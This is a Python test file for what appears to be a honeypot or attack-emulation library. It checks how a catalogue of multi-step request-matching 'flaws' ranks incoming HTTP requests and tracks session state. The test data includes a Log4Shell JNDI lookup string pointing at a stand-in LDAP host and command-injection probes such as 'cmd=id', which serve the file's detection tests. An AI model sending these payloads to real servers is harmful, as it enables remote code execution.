from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from propolis.flaws.file import Case, Flaw, FlawError, Step, load, parse
from propolis.flaws.file import Tests as Examples
from propolis.flaws.index import MAX_MATCHES, MAX_SCORE, Catalogue, reference_matches
from propolis.flaws.request import Request
from propolis.flaws.session import Session

EXAMPLES = Path(__file__).parent / "examples"
TESTS = Examples(match=(Case(request="GET / HTTP/1.1\n\n"),), miss=("GET / HTTP/1.1\n\n",))


def flaw(name: str, *steps: dict[str, Any]) -> Flaw:
    return Flaw(
        id=name,
        name=name,
        product="p",
        steps=tuple(Step(**{"id": f"s{place}", **step}) for place, step in enumerate(steps)),
        tests=TESTS,
    )


def get(target: str, session: Session | None = None, *flaws: Flaw) -> list[str]:
    request = Request.parse(f"GET {target} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
    return names(Catalogue(flaws), request, session or Session())


def names(catalogue: Catalogue, request: Request, session: Session) -> list[str]:
    return [f"{match.flaw.id}/{match.step.id}" for match in catalogue.matches(request, session)]


FLAW_WITH_A_PAST = """id: past
name: The second step needs the first
product: past
steps:
  - {id: one, match: {path: /a}}
  - {id: two, match: {path: /b}, after: [one]}
tests: {match: [{request: "GET /a HTTP/1.1\\n\\n"}], miss: ["GET / HTTP/1.1\\n\\n"]}
"""


def test_the_most_specific_flaw_comes_first() -> None:
    flaws = (
        flaw("any", {"match": {"any|contains": "cmd="}}),
        flaw("prefix", {"match": {"path|startswith": "/cgi"}}),
        flaw("exact", {"match": {"path": "/cgi/x"}}),
        flaw("parameter", {"match": {"path": "/cgi/x", "query.cmd": "id"}}),
        flaw("other", {"match": {"path": "/cgi/y"}}),
    )
    assert get("/cgi/x?cmd=id", None, *flaws) == ["parameter/s0", "exact/s0", "prefix/s0", "any/s0"]
    assert get("/cgi/x?cmd=ls", None, *flaws) == ["exact/s0", "prefix/s0", "any/s0"]
    assert get("/", None, *flaws) == []
    assert get("/", None) == []


def test_scores_stay_in_bounds() -> None:
    long = "x" * 60
    many = {"path": "/a", **{f"query.a{number}": long for number in range(20)}}
    known = flaw("f", {"match": {"path": "/a"}}, {"match": many, "after": ("s0",)})
    session = Session()
    session.take("f", "s0")
    query = "&".join(f"a{number}={long}" for number in range(20))
    (match,) = Catalogue([known]).matches(Request.parse(f"GET /a?{query} HTTP/1.1\n\n".encode()), session)
    assert 0 < match.score <= MAX_SCORE


def test_within_a_file_what_is_more_specific_wins_and_then_what_is_earlier() -> None:
    known = flaw(
        "f", {"match": {"path": "/a"}}, {"match": {"path": "/a", "query.x": "1"}}, {"match": {"path": "/a"}}
    )
    assert get("/a", None, known) == ["f/s0"]
    assert get("/a?x=1", None, known) == ["f/s1"]


def test_a_step_waits_for_those_before_it() -> None:
    known = flaw("f", {"match": {"path": "/a"}}, {"match": {"path": "/b"}, "after": ("s0",)})
    session = Session()
    assert get("/b", session, known) == []
    session.take("f", "s0")
    assert get("/b", session, known) == ["f/s1"]
    session.take("f", "s1")
    assert get("/b", session, known) == ["f/s1"]


def test_a_request_sent_again_is_answered_by_the_steps_in_turn() -> None:
    known = flaw(
        "f",
        {"match": {"path": "/a"}},
        {"match": {"path": "/a"}, "after": ("s0",)},
        {"match": {"path": "/a"}, "after": ("s1",)},
    )
    session, seen = Session(), []
    for _ in range(6):
        (name,) = get("/a", session, known)
        seen.append(name)
        session.take("f", name.removeprefix("f/"))
    assert seen == ["f/s0", "f/s1", "f/s2"] * 2


def test_a_step_that_needs_what_the_source_was_told_goes_first() -> None:
    known = flaw(
        "f",
        {"match": {"path": "/a", "query.x|exists": True, "query.y|exists": True}},
        {"match": {"path|startswith": "/", "query.x": "{{key}}"}, "issue": {"key": "hexes(8)"}},
    )
    session = Session()
    assert get("/a?x=1&y", session, known) == ["f/s0"]
    session.remember("f", "key", b"1")
    assert get("/a?x=1&y", session, known) == ["f/s1"]


def test_what_must_not_be_there() -> None:
    known = flaw("f", {"match": {"path": "/a"}, "unless": [{"query.x": "1"}, {"query.y": "1"}]})
    assert get("/a?x=2", None, known) == ["f/s0"]
    assert get("/a?x=1", None, known) == []
    assert get("/a?y=1", None, known) == []


def test_groups_come_with_the_match() -> None:
    known = flaw("f", {"match": {"path|re": "/run/(?P<what>.*)"}})
    (match,) = Catalogue([known]).matches(Request.parse(b"GET /run/x HTTP/1.1\n\n"), Session())
    assert match.groups == {"what": b"x"}


def test_only_so_many_are_told() -> None:
    flaws = [flaw(f"f{number}", {"match": {"path": "/"}}) for number in range(MAX_MATCHES + 5)]
    assert get("/", None, *flaws) == [f"f{number}/s0" for number in range(MAX_MATCHES)]


def test_what_must_be_tried_on_every_request_is_told() -> None:
    catalogue = Catalogue([flaw("f", {"match": {"method": "PUT"}}, {"match": {"path": "/a"}})])
    assert catalogue.unguarded == ("f/s0",)
    assert names(catalogue, Request.parse(b"PUT / HTTP/1.1\n\n"), Session()) == ["f/s0"]
    assert names(catalogue, Request.parse(b"PUT /a HTTP/1.1\n\n"), Session()) == ["f/s1"]


def test_a_catalogue_with_something_else_in_it_is_another_one() -> None:
    one = Catalogue([flaw("a", {"match": {"path": "/a"}}), flaw("b", {"match": {"path": "/b"}})])
    two = one.replace(
        [flaw("b", {"match": {"path": "/c"}}), flaw("d", {"match": {"query.d": "1"}})], {"a", "x"}
    )
    assert (len(one), len(two), list(two.flaws)) == (2, 2, ["b", "d"])
    for target, before, after in (
        ("/a", ["a/s0"], []),
        ("/b", ["b/s0"], []),
        ("/c?d=1", [], ["b/s0", "d/s0"]),
    ):
        request = Request.parse(f"GET {target} HTTP/1.1\n\n".encode())
        assert names(one, request, Session()) == before
        assert names(two, request, Session()) == after


def test_a_condition_that_cannot_be_used_is_told_with_its_place() -> None:
    with pytest.raises(FlawError) as error:
        Catalogue([flaw("f", {"match": {"path": "/"}}, {"match": {"path": "/"}, "unless": {"route": "/"}})])
    assert (error.value.file, error.value.key) == ("f", "steps[1].unless.route")


def test_the_examples_tell_each_other_apart() -> None:
    catalogue = Catalogue(load(path) for path in sorted(EXAMPLES.glob("*.yaml")))
    raw = b"POST /status.cgi HTTP/1.1\r\nX: ${jndi:ldap://198.51.100.9/a}\r\n\r\n"
    found = catalogue.matches(Request.parse(raw), Session())
    assert [match.flaw.id for match in found] == ["router-login", "log4shell-anywhere"]


WORDS = [
    "a",
    "Ab",
    "/a",
    "/a/b",
    "/A",
    "x y",
    "id",
    "é",
    "'",
    "<a>",
    "${jndi:x}",
    "%41",
    "a\nb",
    "1",
    "10",
    "admin",
]
FIELDS = [
    *(
        "path",
        "raw_path",
        "target",
        "query",
        "query.a",
        "query.x y",
        "header.x-a",
        "cookie.a",
        "form.a",
        "form.Ab",
    ),
    *(
        "body",
        "json.a",
        "json.a.0",
        "json.a.b",
        "xml.a",
        "any",
        "raw",
        "headers",
        "host",
        "part.a",
        "file",
        "file.a",
    ),
]
MODIFIERS = [
    "",
    "|contains",
    "|startswith",
    "|endswith",
    "|nocase",
    "|contains|nocase",
    "|urldecode|contains",
]
MODIFIERS += ["|lower", "|trim", "|base64decode|contains", "|contains|all", "|length"]
keys = st.builds(
    lambda field, modifier: field + modifier, st.sampled_from(FIELDS), st.sampled_from(MODIFIERS)
)
words = st.sampled_from(WORDS)
tests = st.one_of(
    st.tuples(keys, words),
    st.tuples(keys.filter(lambda key: "contains" in key), st.lists(words, min_size=1, max_size=3).map(tuple)),
    st.tuples(st.sampled_from(FIELDS).map(lambda field: field + "|exists"), st.booleans()),
    st.tuples(
        st.sampled_from(FIELDS).map(lambda field: field + "|re"),
        st.sampled_from([r"a(?P<g>.)", r"(?i)AB|x y", r"^/a", r"jndi:\w", r"\d", r"<(?:a|b)>", r"a.b"]),
    ),
    st.tuples(st.sampled_from(FIELDS), st.just("{{told}}")),
)
mappings = st.lists(tests, min_size=1, max_size=3).map(dict)
steps = st.fixed_dictionaries(
    {"match": st.one_of(mappings, st.lists(mappings, min_size=1, max_size=2).map(tuple))},
    optional={"unless": mappings, "after": st.just(("s0",))},
)
catalogues = st.lists(st.lists(steps, min_size=1, max_size=2), min_size=1, max_size=5).map(
    lambda flaws: [
        flaw(f"f{number}", *({"issue": {"told": "'a'"}, **step} for step in inner))
        for number, inner in enumerate(flaws)
    ]
)


def escaped(word: str) -> str:
    return "".join(f"%{byte:02x}" for byte in word.encode())


def json_escaped(word: str) -> str:
    return "".join(f"\\u{ord(letter):04x}" for letter in word)


pieces = st.one_of(words, words.map(escaped), words.map(lambda word: word.replace(" ", "+")))
pairs = st.lists(st.tuples(pieces, pieces).map("=".join), max_size=3).map("&".join)
texts = st.one_of(words.filter(lambda word: word.isalnum()), words.map(json_escaped)).map(
    lambda word: f'"{word}"'
)
bodies = st.one_of(
    pairs,
    texts.map(lambda text: f'{{"a": {text}, "a.0": 1}}'),
    st.tuples(texts, texts).map(lambda two: f'{{"a": [{two[0]}, {two[1]}], "b": 1}}'),
    st.tuples(texts, texts).map(lambda two: f'{{"a": {{"b": {two[0]}, {two[1]}: 10}}}}'),
    words.map(lambda word: f"<s:a><b>{word}</b>&#97;<![CDATA[{word}]]></s:a>"),
    words.map(
        lambda word: (
            f'--b\r\nContent-Disposition: form-data; name="a"; filename="{word}"\r\n\r\n{word}\r\n--b--'
        )
    ),
)


@st.composite
def requests(draw: st.DrawFn) -> Request:
    target = (
        "/"
        + draw(st.lists(pieces, max_size=3).map("/".join))
        + draw(st.sampled_from(["", "?"]))
        + draw(pairs)
    )
    body = draw(bodies)
    head = (
        f"POST {target} HTTP/1.1\r\nHost: {draw(words)}\r\nX-A: {draw(words)}\r\nCookie: a={draw(words)}\r\n"
    )
    head += draw(st.sampled_from(["", "Content-Type: multipart/form-data; boundary=b\r\n"]))
    if draw(st.booleans()):
        content = body.encode()
        body = f"{len(content[:5]):x}\r\n{{}}\r\n{len(content[5:]):x}\r\n{{}}\r\n0\r\n\r\n"
        head += "Transfer-Encoding: chunked\r\n"
        first, second, rest = body.split("{}")
        raw = first.encode() + content[:5] + second.encode() + content[5:] + rest.encode()
    else:
        raw = body.encode()
    return Request.parse(head.encode() + b"\r\n" + raw)


@given(flaws=catalogues, asked=st.lists(requests(), min_size=1, max_size=4), is_known=st.booleans())
@settings(max_examples=300, deadline=None)
def test_the_index_finds_what_trying_everything_finds(
    flaws: list[Flaw], asked: list[Request], *, is_known: bool
) -> None:
    catalogue, session = Catalogue(flaws), Session()
    if is_known:
        session.remember("f0", "told", b"a")
        session.take("f0", "s0")
    for request in asked:
        found = catalogue.matches(request, session)
        assert tuple((match.flaw.id, match.step.id, match.score) for match in found) == reference_matches(
            flaws, request, session
        )


def test_what_is_remembered_of_a_request_gives_way_to_a_source_that_has_a_past() -> None:
    catalogue = Catalogue([parse(FLAW_WITH_A_PAST, "past.yaml")])
    blank, known = Session(), Session()
    raw = b"GET /b HTTP/1.1\r\nHost: a\r\n\r\n"
    assert catalogue.matches(Request.parse(raw), blank) == ()
    known.take("past", "one")
    for _ in range(2):
        assert [match.step.id for match in catalogue.matches(Request.parse(raw), known)] == ["two"]
        assert catalogue.matches(Request.parse(raw), blank) == ()
